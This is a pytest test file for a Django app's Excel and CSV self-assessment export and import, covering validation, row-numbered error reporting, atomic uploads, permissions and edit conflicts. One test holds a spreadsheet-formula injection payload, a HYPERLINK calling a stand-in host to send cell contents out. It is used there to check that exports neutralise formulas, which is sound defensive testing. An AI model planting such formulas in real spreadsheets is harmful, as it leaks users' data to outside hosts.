"""The self-assessment as an Excel file: what the download holds, and filling the form from it
(all rows or none, every problem with its Excel row number)."""

import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from parindex.tabular import ImportFailed
from scoring.entries import SelfEntry
from scoring.exceptions import EntryClosed
from scoring.models import AuditEntry, IndexItem, ItemLevel, Score, ScoringMethod
from scoring.rules import parse_rule
from scoring.services import self_assessment_workbook as wb
from scoring.services.evidence import evidence_cite, evidence_upload
from scoring.services.self_assessment import self_score_save
from scoring.workflow import AssessmentStatus, PeriodStatus
from tests.factories import (
    AssessmentFactory,
    IndexItemFactory,
    RoleGrantFactory,
    UnitFactory,
    small_tree,
    survey_branch,
)
from tests.helpers import csv_text, pdf_bytes, xlsx
from units.roles import Role

pytestmark = pytest.mark.django_db

RATIO_RULE = "100%: 1,5; 90% - <100%: 1; <90%: 0"


@pytest.fixture
def assessment():
    assessment = AssessmentFactory(period__status=PeriodStatus.SELF_ASSESSMENT)
    assert assessment.status == AssessmentStatus.DRAFT
    assert assessment.period.self_assessment_deadline is None
    return assessment


@pytest.fixture
def staff(assessment):
    return RoleGrantFactory(role=Role.UNIT_STAFF, unit=assessment.unit).user


@pytest.fixture
def items(assessment):
    """1 → 1.1 → 1.1.1 yes/no, 1.1.2 manual (N/A allowed), 1.1.3 levels, 1.1.4 ratio bands,
    1.1.5 proportional; 2 → 2.1 → 2.1.1 survey; bonus line T1."""
    index_set = assessment.index_set
    tree = small_tree(index_set)
    criterion = tree["criterion"]
    ratio_rule = parse_rule(RATIO_RULE, Decimal("1.5"))
    tree["1.1.3"] = IndexItemFactory(
        index_set=index_set,
        parent=criterion,
        code="1.1.3",
        name="Chất lượng báo cáo",
        max_points=Decimal("1"),
        method=ScoringMethod.LEVELS,
        method_params={
            "levels": [
                {"label": "Tốt", "points": "1"},
                {"label": "Đạt", "points": "0.5"},
                {"label": "Không đạt", "points": "0"},
            ]
        },
        rule="Tốt: 1; đạt: 0,5; không đạt: 0",
        position=5,
    )
    tree["1.1.4"] = IndexItemFactory(
        index_set=index_set,
        parent=criterion,
        code="1.1.4",
        name="Tỷ lệ hồ sơ đúng hạn",
        max_points=Decimal("1.5"),
        method=ratio_rule.method,
        method_params=ratio_rule.params,
        rule=RATIO_RULE,
        position=6,
    )
    tree["1.1.5"] = IndexItemFactory(
        index_set=index_set,
        parent=criterion,
        code="1.1.5",
        name="Tỷ lệ thực hiện kế hoạch",
        max_points=Decimal("2"),
        method=ScoringMethod.PROPORTIONAL,
        method_params={"target": "100", "full_at": None},
        rule="Tỷ lệ % x 2",
        position=7,
    )
    tree["2.1.1"] = survey_branch(index_set, max_points=Decimal("2"))
    tree["T1"] = IndexItemFactory(
        index_set=index_set,
        parent=None,
        level=ItemLevel.BONUS,
        code="T1",
        name="Sáng kiến được công nhận",
        max_points=Decimal("1"),
        position=20,
    )
    return tree


@pytest.fixture
def filled(assessment, staff, items):
    """A few items already entered through the form."""
    entries = {
        "1.1.1": SelfEntry(points=Decimal("1")),
        "1.1.3": SelfEntry(points=Decimal("0.5"), note="Báo cáo gửi đúng hạn"),
        "1.1.4": SelfEntry(ratio=Decimal("95")),
        "1.1.5": SelfEntry(ratio=Decimal("33.3")),
    }
    for code, entry in entries.items():
        self_score_save(
            assessment=assessment, item=items[code], entry=entry, expected_version=0, by=staff
        )
    return entries


def export_rows(data: bytes) -> tuple[list[str], dict[str, dict], object]:
    """Headers, the data rows by code ({header: cell}), and the data sheet."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    rows = {}
    for cells in sheet.iter_rows(min_row=2):
        by_header = dict(zip(headers, cells, strict=True))
        rows[by_header[_(wb.CODE)].value] = by_header
    return headers, rows, sheet


def edited(data: bytes, changes: dict[str, dict[str, object]]) -> bytes:
    """The downloaded workbook with cells changed as a user would in Excel."""
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        code = row[headers.index(_(wb.CODE))].value
        for column, value in changes.get(code, {}).items():
            row[headers.index(_(column))].value = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def row_of(data: bytes, code: str) -> int:
    _headers, rows, _sheet = export_rows(data)
    return rows[code][_(wb.CODE)].row


def stored(assessment) -> list[tuple]:
    return list(
        Score.objects.filter(assessment=assessment)
        .order_by("item__position")
        .values_list(
            "item__code",
            "self_points",
            "self_ratio",
            "not_applicable",
            "not_applicable_reason",
            "self_note",
            "version",
        )
    )


def do_import(assessment, staff, data, filename="tu-danh-gia.xlsx") -> int:
    return wb.self_assessment_import(assessment=assessment, data=data, filename=filename, by=staff)


def problems_of(failure: pytest.ExceptionInfo) -> list[tuple[int | None, str]]:
    return [(problem.row, problem.message) for problem in failure.value.problems]


# ---------------------------------------------------------------- download


def test_download_has_one_row_per_item_in_form_order_with_numbers_as_numbers(
    assessment, staff, items, filled
):
    headers, rows, sheet = export_rows(wb.self_assessment_workbook(assessment))

    assert sheet.title == _(wb.SHEET_TITLE)
    assert headers == [_(name) for name in wb.COLUMNS]
    order = "1 1.1 1.1.1 1.1.2 1.1.3 1.1.4 1.1.5 2 2.1 2.1.1 T1"
    assert list(rows) == order.split()
    levels = rows["1.1.3"]
    assert levels[_(wb.POINTS)].data_type == "n"
    assert levels[_(wb.POINTS)].value == 0.5
    assert levels[_(wb.EARNED)].value == 0.5
    assert levels[_(wb.MAX_POINTS)].value == 1
    assert levels[_(wb.POINTS)].number_format == wb.NUMBER_FORMAT
    assert levels[_(wb.CHOICES)].value == "Tốt: 1; Đạt: 0,5; Không đạt: 0"
    assert levels[_(wb.NOTE)].value == "Báo cáo gửi đúng hạn"
    bands = rows["1.1.4"]
    assert bands[_(wb.RATIO)].data_type == "n"
    assert bands[_(wb.RATIO)].value == 95
    assert bands[_(wb.POINTS)].value is None
    assert bands[_(wb.EARNED)].value == 1  # 90% - <100% gives 1 point
    assert bands[_(wb.RULE)].value == RATIO_RULE
    proportional = rows["1.1.5"]
    assert proportional[_(wb.RATIO)].value == pytest.approx(33.3)
    assert proportional[_(wb.EARNED)].value == pytest.approx(0.666)
    yes_no = rows["1.1.1"]
    assert yes_no[_(wb.CHOICES)].value == "Có: 1; Không: 0"
    assert rows["1.1.2"][_(wb.POINTS)].value is None  # not entered yet


def test_area_and_criterion_rows_show_structure_only_in_bold(assessment, items, filled):
    _headers, rows, _sheet = export_rows(wb.self_assessment_workbook(assessment))
    area = rows["1"]
    assert area[_(wb.NAME)].value == "Công tác chỉ đạo, điều hành"
    assert area[_(wb.LEVEL)].value == str(ItemLevel.AREA.label)
    assert area[_(wb.MAX_POINTS)].value == 3
    assert area[_(wb.CODE)].font.bold and area[_(wb.NAME)].font.bold
    assert all(area[_(name)].value is None for name in wb.VALUE_COLUMNS)
    assert rows["1.1"][_(wb.NAME)].font.bold
    assert not rows["1.1.1"][_(wb.NAME)].font.bold


def test_survey_rows_say_home_affairs_enters_them_and_stay_empty(assessment, items):
    _headers, rows, _sheet = export_rows(wb.self_assessment_workbook(assessment))
    survey = rows["2.1.1"]
    expected = _("%(method)s (entered by Home Affairs)") % {"method": ScoringMethod.SURVEY.label}
    assert survey[_(wb.METHOD)].value == expected
    assert all(survey[_(name)].value is None for name in (*wb.VALUE_COLUMNS, wb.EARNED))


def test_download_lists_the_evidence_of_each_item(assessment, staff, items):
    evidence_cite(
        assessment=assessment,
        by=staff,
        items=[items["1.1.1"], items["1.1.2"]],
        document_number="123/KH-UBND",
        document_date=date(2026, 2, 5),
        issuer="Sở Nội vụ",
    )
    evidence_upload(
        assessment=assessment,
        by=staff,
        upload=SimpleUploadedFile("bao-cao.pdf", pdf_bytes("report"), "application/pdf"),
        items=[items["1.1.1"]],
    )

    _headers, rows, _sheet = export_rows(wb.self_assessment_workbook(assessment))

    assert rows["1.1.1"][_(wb.EVIDENCE)].value == (
        f"123/KH-UBND {_('dated')} 05/02/2026 (Sở Nội vụ); bao-cao.pdf"
    )
    assert rows["1.1.2"][_(wb.EVIDENCE)].value == f"123/KH-UBND {_('dated')} 05/02/2026 (Sở Nội vụ)"
    assert rows["1.1.3"][_(wb.EVIDENCE)].value is None


def test_not_applicable_is_marked_x_with_its_reason(assessment, staff, items):
    self_score_save(
        assessment=assessment,
        item=items["1.1.2"],
        entry=SelfEntry(not_applicable=True, not_applicable_reason="Không phát sinh"),
        expected_version=0,
        by=staff,
    )
    _headers, rows, _sheet = export_rows(wb.self_assessment_workbook(assessment))
    row = rows["1.1.2"]
    assert row[_(wb.NOT_APPLICABLE)].value == "x"
    assert row[_(wb.REASON)].value == "Không phát sinh"
    assert row[_(wb.EARNED)].value is None


def test_formula_like_text_is_never_a_formula_in_the_download(assessment, staff, items):
    note = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    self_score_save(
        assessment=assessment,
        item=items["1.1.2"],
        entry=SelfEntry(points=Decimal("1"), note=note),
        expected_version=0,
        by=staff,
    )
    data = wb.self_assessment_workbook(assessment)
    _headers, rows, _sheet = export_rows(data)
    cell = rows["1.1.2"][_(wb.NOTE)]
    assert cell.data_type == "s"
    assert cell.value == "'" + note
    # ...and uploading the file back does not store the apostrophe.
    assert do_import(assessment, staff, data) == 0
    assert Score.objects.get(item=items["1.1.2"]).self_note == note


def test_download_queries_do_not_grow_with_the_items(assessment, staff, items, filled):
    with CaptureQueriesContext(connection) as small:
        wb.self_assessment_workbook(assessment)
    for n in range(10):
        item = IndexItemFactory(
            index_set=assessment.index_set, parent=items["criterion"], position=30 + n
        )
        self_score_save(
            assessment=assessment,
            item=item,
            entry=SelfEntry(points=Decimal("1")),
            expected_version=0,
            by=staff,
        )
        evidence_cite(assessment=assessment, by=staff, items=[item], document_number=f"{n}/BC")
    with CaptureQueriesContext(connection) as large:
        wb.self_assessment_workbook(assessment)
    assert len(large) == len(small) <= 6


def test_instructions_sheet_explains_what_is_read(assessment, items):
    book = load_workbook(io.BytesIO(wb.self_assessment_workbook(assessment)))
    assert [sheet.title for sheet in book.worksheets] == [
        _(wb.SHEET_TITLE),
        _(wb.INSTRUCTIONS_TITLE),
    ]
    text = "\n".join(str(row[0]) for row in book.worksheets[1].iter_rows(values_only=True))
    assert assessment.unit.name in text
    for column in wb.VALUE_COLUMNS:
        assert _(column) in text


# ---------------------------------------------------------------- upload: what changes


def test_round_trip_changes_exactly_the_edited_items(assessment, staff, items, filled):
    data = wb.self_assessment_workbook(assessment)
    before = {row[0]: row for row in stored(assessment)}
    last_audit = AuditEntry.objects.order_by("pk").last().pk

    count = do_import(
        assessment,
        staff,
        edited(
            data,
            {
                "1.1.2": {wb.POINTS: 1.25, wb.NOTE: "Đã xử lý 3/4 vấn đề"},
                "1.1.3": {wb.POINTS: 1},
                "1.1.4": {wb.RATIO: 100},
                "T1": {wb.POINTS: 0.5},
            },
        ),
    )

    assert count == 4
    after = {row[0]: row for row in stored(assessment)}
    assert after["1.1.2"][1:6] == (Decimal("1.25"), None, False, "", "Đã xử lý 3/4 vấn đề")
    assert after["1.1.3"][1] == Decimal("1") and after["1.1.3"][5] == "Báo cáo gửi đúng hạn"
    assert after["1.1.4"][2] == Decimal("100")
    assert after["T1"][1] == Decimal("0.5")
    assert after["1.1.3"][6] == before["1.1.3"][6] + 1
    for code in ("1.1.1", "1.1.5"):  # not edited: untouched, same version
        assert after[code] == before[code]
    changes = AuditEntry.objects.filter(pk__gt=last_audit)
    assert {entry.action for entry in changes} == {"self_score"}
    fields = {(entry.object_repr.rsplit("— ", 1)[-1], entry.field) for entry in changes}
    assert ("1.1.3", "self_points") in fields
    assert ("1.1.2", "self_note") in fields
    assert ("1.1.4", "self_ratio") in fields
    assert all(entry.actor == staff for entry in changes)
    assert not {code for code, _field in fields} & {"1.1.1", "1.1.5"}


def test_an_unchanged_file_changes_nothing(assessment, staff, items, filled):
    self_score_save(
        assessment=assessment,
        item=items["1.1.2"],
        entry=SelfEntry(points=Decimal("0.25"), note="- Dòng một\r\n- Dòng hai"),
        expected_version=0,
        by=staff,
    )
    before, audit_before = stored(assessment), AuditEntry.objects.count()

    assert do_import(assessment, staff, wb.self_assessment_workbook(assessment)) == 0

    assert stored(assessment) == before
    assert AuditEntry.objects.count() == audit_before


def test_decimals_typed_as_text_with_a_comma_or_a_dot(assessment, staff, items, filled):
    data = edited(
        wb.self_assessment_workbook(assessment),
        {"1.1.2": {wb.POINTS: "1,5"}, "1.1.5": {wb.RATIO: "87.5"}, "T1": {wb.POINTS: "0,75"}},
    )
    assert do_import(assessment, staff, data) == 3
    scores = {score.item.code: score for score in Score.objects.filter(assessment=assessment)}
    assert scores["1.1.2"].self_points == Decimal("1.5")
    assert scores["1.1.5"].self_ratio == Decimal("87.5")
    assert scores["T1"].self_points == Decimal("0.75")


def test_a_spreadsheet_number_is_the_number_typed(assessment, staff, items):
    data = edited(wb.self_assessment_workbook(assessment), {"1.1.5": {wb.RATIO: 0.1 + 0.2}})
    assert do_import(assessment, staff, data) == 1
    assert Score.objects.get(item=items["1.1.5"]).self_ratio == Decimal("0.3")


def test_a_cell_formatted_as_a_percentage_counts_as_the_percentage_shown(assessment, staff, items):
    """Excel stores “95,5%” typed in a %-formatted cell as 0.955: the user meant 95,5."""
    book = load_workbook(io.BytesIO(wb.self_assessment_workbook(assessment)))
    sheet = book.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[headers.index(_(wb.CODE))].value == "1.1.5":
            row[headers.index(_(wb.RATIO))].value = 0.955
            row[headers.index(_(wb.RATIO))].number_format = "0.0%"
    buffer = io.BytesIO()
    book.save(buffer)
    assert do_import(assessment, staff, buffer.getvalue()) == 1
    assert Score.objects.get(item=items["1.1.5"]).self_ratio == Decimal("95.5")


def test_not_applicable_with_x_and_a_reason(assessment, staff, items):
    data = edited(
        wb.self_assessment_workbook(assessment),
        {"1.1.2": {wb.NOT_APPLICABLE: "x", wb.REASON: "Năm 2026 không phát sinh"}},
    )
    assert do_import(assessment, staff, data) == 1
    score = Score.objects.get(item=items["1.1.2"])
    assert score.not_applicable and score.not_applicable_reason == "Năm 2026 không phát sinh"
    assert score.self_points is None


def test_emptied_value_cells_clear_the_stored_entry(assessment, staff, items, filled):
    data = edited(
        wb.self_assessment_workbook(assessment), {"1.1.3": {wb.POINTS: None, wb.NOTE: None}}
    )
    assert do_import(assessment, staff, data) == 1
    score = Score.objects.get(item=items["1.1.3"])
    assert (score.self_points, score.self_note) == (None, "")


def test_a_csv_file_in_the_same_layout(assessment, staff, items, filled):
    header = [_(name) for name in wb.COLUMNS]
    points, note = header.index(_(wb.POINTS)), header.index(_(wb.NOTE))
    row = [""] * len(header)
    row[0], row[points], row[note] = "1.1.2", "1,5", "Theo báo cáo số 12"
    data = csv_text([header, row], delimiter=";")
    assert do_import(assessment, staff, data, "tu-danh-gia.csv") == 1
    score = Score.objects.get(item=items["1.1.2"])
    assert (score.self_points, score.self_note) == (Decimal("1.5"), "Theo báo cáo số 12")


def test_area_rows_and_other_columns_are_not_read(assessment, staff, items, filled):
    data = edited(
        wb.self_assessment_workbook(assessment),
        {
            "1": {wb.POINTS: 3},
            "1.1.1": {wb.MAX_POINTS: 9, wb.EARNED: 9, wb.NAME: "Đổi tên"},
        },
    )
    before = stored(assessment)
    assert do_import(assessment, staff, data) == 0
    assert stored(assessment) == before
    assert IndexItem.objects.get(pk=items["1.1.1"].pk).max_points == Decimal("1")


# ---------------------------------------------------------------- upload: problems


@pytest.mark.parametrize(
    ("code", "cells", "words"),
    [
        ("1.1.2", {wb.POINTS: 2.5}, "2,5"),  # above the maximum of 2
        ("1.1.3", {wb.POINTS: 0.75}, None),  # not one of the levels 1 / 0,5 / 0
        ("1.1.1", {wb.POINTS: 0.5}, None),  # yes/no is 1 or 0
        ("1.1.2", {wb.NOT_APPLICABLE: "x"}, None),  # without a reason
        ("1.1.3", {wb.NOT_APPLICABLE: "x", wb.REASON: "Không có"}, None),  # not allowed
        ("1.1.4", {wb.RATIO: "chín mươi"}, "chín mươi"),
        ("1.1.5", {wb.POINTS: 1}, None),  # a proportional item needs the ratio
        ("1.1.2", {wb.NOT_APPLICABLE: "có lẽ"}, "có lẽ"),
        ("2.1.1", {wb.POINTS: 2}, "2.1.1"),  # survey: Home Affairs enters it
    ],
)
def test_a_bad_row_is_reported_with_its_row_number_and_nothing_changes(
    assessment, staff, items, filled, code, cells, words
):
    data = wb.self_assessment_workbook(assessment)
    upload = edited(data, {code: cells, "T1": {wb.POINTS: 1}})  # plus a good row
    before, audit_before = stored(assessment), AuditEntry.objects.count()

    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, upload)

    problems = problems_of(failure)
    assert [row for row, _message in problems] == [row_of(data, code)]
    assert code in problems[0][1]
    if words:
        assert words in problems[0][1]
    assert stored(assessment) == before
    assert AuditEntry.objects.count() == audit_before


def test_every_problem_of_the_file_is_listed(assessment, staff, items, filled):
    data = wb.self_assessment_workbook(assessment)
    upload = edited(
        data,
        {
            "1.1.2": {wb.POINTS: 3},
            "1.1.3": {wb.POINTS: 0.3},
            "T1": {wb.POINTS: 1},
        },
    )
    before = stored(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, upload)
    assert [row for row, _message in problems_of(failure)] == [
        row_of(data, "1.1.2"),
        row_of(data, "1.1.3"),
    ]
    assert stored(assessment) == before


def test_an_unknown_code_is_a_problem(assessment, staff, items, filled):
    data = wb.self_assessment_workbook(assessment)
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    sheet.cell(row=row_of(data, "1.1.2"), column=headers.index(_(wb.CODE)) + 1, value="9.9.9")
    buffer = io.BytesIO()
    book.save(buffer)
    before = stored(assessment)

    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, buffer.getvalue())

    assert problems_of(failure) == [
        (
            row_of(data, "1.1.2"),
            _("There is no item with code “%(code)s” in the index set.") % {"code": "9.9.9"},
        )
    ]
    assert stored(assessment) == before


def test_values_without_a_code_are_a_problem(assessment, staff, items):
    header = [_(name) for name in wb.READ_COLUMNS]
    data = xlsx({"x": [header, ["1.1.2", 1], [None, 1.5, None, None, None, "Ghi chú"]]})
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, data)
    assert problems_of(failure) == [(3, _("This row has values but no item code."))]
    assert not Score.objects.filter(assessment=assessment).exists()


def test_a_code_twice_is_a_problem_on_the_second_row(assessment, staff, items):
    header = [_(name) for name in wb.READ_COLUMNS]
    data = xlsx({"x": [header, ["1.1.2", 1], ["1.1.3", 1], ["1.1.2", 2]]})
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, data)
    assert problems_of(failure) == [
        (4, _("Item %(code)s is already on row %(first)s.") % {"code": "1.1.2", "first": 2})
    ]
    assert not Score.objects.filter(assessment=assessment).exists()


def test_a_missing_column_is_a_problem_on_the_header_row(assessment, staff, items):
    header = [_(wb.CODE), _(wb.POINTS), _(wb.RATIO), _(wb.NOT_APPLICABLE), _(wb.REASON)]
    data = xlsx({"x": [header, ["1.1.2", 1, None, None, None]]})
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, data)
    [(row, message)] = problems_of(failure)
    assert row == 1 and _(wb.NOTE) in message
    assert not Score.objects.filter(assessment=assessment).exists()


@pytest.mark.parametrize(
    ("data", "filename"),
    [(b"%PDF-1.4 not a workbook", "tu-danh-gia.xlsx"), (b"%PDF-1.4", "tu-danh-gia.pdf")],
)
def test_a_file_that_is_not_a_spreadsheet(assessment, staff, items, data, filename):
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, data, filename)
    [(row, message)] = problems_of(failure)
    assert row is None and message


# ---------------------------------------------------------------- upload: who and when


def test_a_submitted_self_assessment_is_read_only(assessment, staff, items, filled):
    data = edited(wb.self_assessment_workbook(assessment), {"1.1.2": {wb.POINTS: 1}})
    assessment.status = AssessmentStatus.SUBMITTED
    assessment.save()
    before = stored(assessment)
    with pytest.raises(EntryClosed):
        do_import(assessment, staff, data)
    assert stored(assessment) == before


@pytest.mark.parametrize("changes", [{"1.1.2": {wb.POINTS: 1}}, {}, {"1.1.2": {wb.POINTS: 9}}])
def test_another_units_staff_is_refused(assessment, staff, items, filled, changes):
    """Refused before the file is read: not even "0 items changed" or its problems."""
    other = RoleGrantFactory(
        role=Role.UNIT_STAFF, unit=UnitFactory(organiser=assessment.unit.organiser)
    ).user
    data = edited(wb.self_assessment_workbook(assessment), changes)
    before = stored(assessment)
    with pytest.raises(PermissionDenied):
        do_import(assessment, other, data)
    assert stored(assessment) == before


def test_an_item_changed_meanwhile_fails_the_whole_upload(
    assessment, staff, items, filled, monkeypatch
):
    data = edited(
        wb.self_assessment_workbook(assessment),
        {"1.1.2": {wb.POINTS: 1}, "1.1.3": {wb.POINTS: 1}},
    )
    real_save = wb.self_score_save

    def colleague_first(**kwargs):
        if kwargs["item"].code == "1.1.3":  # a colleague saves 1.1.3 in the form just before
            score = Score.objects.get(item=kwargs["item"])
            real_save(
                **{
                    **kwargs,
                    "entry": SelfEntry(points=Decimal("0")),
                    "expected_version": score.version,
                }
            )
        return real_save(**kwargs)

    monkeypatch.setattr(wb, "self_score_save", colleague_first)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, data)
    [(row, message)] = problems_of(failure)
    assert row == row_of(data, "1.1.3") and "1.1.3" in message
    assert Score.objects.filter(item=items["1.1.2"]).count() == 0  # the good row is not kept


def test_a_file_older_than_a_colleagues_change_is_refused_for_that_row(
    assessment, staff, items, filled
):
    """Download, a colleague changes 1.1.3 in the form, then the old file is uploaded: its
    row would silently undo the colleague's work, so it is refused and nothing changes."""
    data = edited(
        wb.self_assessment_workbook(assessment),
        {"1.1.3": {wb.POINTS: 1}, "1.1.2": {wb.POINTS: 1}},
    )
    score = Score.objects.get(item=items["1.1.3"])
    self_score_save(
        assessment=assessment,
        item=items["1.1.3"],
        entry=SelfEntry(points=Decimal("0"), note="Sửa trên cổng"),
        expected_version=score.version,
        by=staff,
    )
    before = stored(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, data)
    [(row, message)] = problems_of(failure)
    assert row == row_of(data, "1.1.3") and "1.1.3" in message
    assert stored(assessment) == before
    # Emptying the version cell is the user's explicit choice to replace what is stored.
    data = edited(data, {"1.1.3": {wb.VERSION: None}})
    assert do_import(assessment, staff, data) == 2
    assert Score.objects.get(item=items["1.1.3"]).self_points == Decimal("1")


# ---------------------------------------------------------------- per-case lines, maxima


PER_CASE_RULE = "Mỗi mô hình, sáng kiến được công nhận: 0.5; tổng điểm thưởng tối đa: 1.5"


@pytest.fixture
def per_case(assessment, items):
    parsed = parse_rule(PER_CASE_RULE, Decimal("1.5"))
    return IndexItemFactory(
        index_set=assessment.index_set,
        parent=None,
        level=ItemLevel.BONUS,
        code="T2",
        name="Mô hình, sáng kiến CCHC được công nhận",
        max_points=Decimal("1.5"),
        method=parsed.method,
        method_params=parsed.params,
        rule=PER_CASE_RULE,
        position=21,
    )


def test_a_per_case_line_goes_out_and_comes_back_as_its_number_of_cases(
    assessment, staff, items, per_case
):
    data = wb.self_assessment_workbook(assessment)
    _headers, rows, _sheet = export_rows(data)
    line = rows["T2"]
    assert line[_(wb.CHOICES)].value == "0,5 điểm mỗi trường hợp, tối đa 1,5 điểm"
    assert line[_(wb.COUNT)].value is None and line[_(wb.RATIO)].value is None

    assert do_import(assessment, staff, edited(data, {"T2": {wb.COUNT: 2}})) == 1
    score = Score.objects.get(item=per_case)
    assert (score.self_ratio, score.self_points) == (Decimal(2), None)
    _headers, rows, _sheet = export_rows(wb.self_assessment_workbook(assessment))
    assert rows["T2"][_(wb.COUNT)].value == 2
    assert rows["T2"][_(wb.EARNED)].value == 1  # 2 × 0,5


@pytest.mark.parametrize(
    ("cells", "fragment"),
    [
        ({wb.COUNT: "1,5"}, "Số trường hợp phải là số nguyên"),
        ({wb.RATIO: 2}, "ghi số trường hợp vào cột “Số trường hợp”"),
        ({wb.POINTS: 1}, "Nhập số trường hợp"),
    ],
)
def test_a_per_case_line_refuses_part_of_a_case_a_ratio_or_typed_points(
    assessment, staff, items, per_case, cells, fragment
):
    data = wb.self_assessment_workbook(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, edited(data, {"T2": cells}))
    assert [(row, fragment in message) for row, message in problems_of(failure)] == [
        (row_of(data, "T2"), True)
    ]
    assert not Score.objects.exists()


def test_a_count_on_a_line_not_scored_per_case_is_refused(assessment, staff, items, per_case):
    data = wb.self_assessment_workbook(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, edited(data, {"1.1.2": {wb.COUNT: 3}}))
    assert "để trống cột “Số trường hợp”" in problems_of(failure)[0][1]


def test_a_file_without_the_number_of_cases_column_still_imports(assessment, staff, items):
    data = csv_text(
        [
            [_(name) for name in wb.READ_COLUMNS],
            ["1.1.3", "1", "", "", "", ""],
        ]
    )
    assert do_import(assessment, staff, data, filename="tu-danh-gia.csv") == 1
    assert Score.objects.get(item=items["1.1.3"]).self_points == Decimal("1")


def test_points_above_the_maximum_are_said_to_be_above_it_not_off_the_list(
    assessment, staff, items
):
    data = wb.self_assessment_workbook(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, edited(data, {"1.1.3": {wb.POINTS: 5}}))
    assert problems_of(failure) == [
        (row_of(data, "1.1.3"), "1.1.3: 5 điểm vượt quá điểm tối đa 1.")
    ]
    assert not Score.objects.exists()


def test_points_below_the_lists_maximum_but_off_the_list_still_ask_for_an_answer(
    assessment, staff, items
):
    data = wb.self_assessment_workbook(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, edited(data, {"1.1.3": {wb.POINTS: 0.7}}))
    assert "chọn một trong các phương án" in problems_of(failure)[0][1]


# ---------------------------------------------------------------- bounds and hostile files


def test_a_file_of_50000_rows_is_refused_early_and_nothing_changes(
    assessment, staff, items, filled, settings
):
    header = [_(name) for name in wb.READ_COLUMNS]
    rows = [header] + [["1.1.1", 1, None, None, None, None]] * 50_000
    before = stored(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, xlsx({_(wb.SHEET_TITLE): rows}))
    limit = f"{settings.PARINDEX_IMPORT_SMALL_MAX_ROWS}"
    assert [message for _row, message in problems_of(failure)] == [
        _("The file has more than %(limit)s rows: split it, or check for rows below the table.")
        % {"limit": limit}
    ]
    assert stored(assessment) == before


def test_a_formula_without_its_result_never_clears_stored_points(assessment, staff, items, filled):
    data = wb.self_assessment_workbook(assessment)
    upload = edited(data, {"1.1.1": {wb.POINTS: "=1"}})  # openpyxl saves no result
    before = stored(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, upload)
    (row, message), *_rest = problems_of(failure)
    assert row == row_of(data, "1.1.1")
    assert f"H{row}" in message
    assert stored(assessment) == before


@pytest.mark.parametrize("points", ["0.5%", "０．５", "1e0", "1.000,5"])
def test_points_that_are_not_a_plain_decimal_are_refused(assessment, staff, items, filled, points):
    upload = edited(wb.self_assessment_workbook(assessment), {"1.1.3": {wb.POINTS: points}})
    before = stored(assessment)
    with pytest.raises(ImportFailed) as failure:
        do_import(assessment, staff, upload)
    assert points in problems_of(failure)[0][1]
    assert stored(assessment) == before


def test_a_failure_on_the_last_row_writes_nothing_of_the_file(
    assessment, staff, items, filled, monkeypatch
):
    upload = edited(
        wb.self_assessment_workbook(assessment),
        {"1.1.1": {wb.POINTS: 0}, "1.1.3": {wb.POINTS: 1}, "T1": {wb.POINTS: 1}},
    )
    before, audit_before = stored(assessment), AuditEntry.objects.count()
    saves = []

    def save_then_fail(**kwargs):
        saves.append(kwargs["item"].code)
        if len(saves) == 3:
            raise RuntimeError("disk full")
        return self_score_save(**kwargs)

    monkeypatch.setattr(wb, "self_score_save", save_then_fail)
    with pytest.raises(RuntimeError):
        do_import(assessment, staff, upload)
    assert len(saves) == 3
    assert stored(assessment) == before
    assert AuditEntry.objects.count() == audit_before
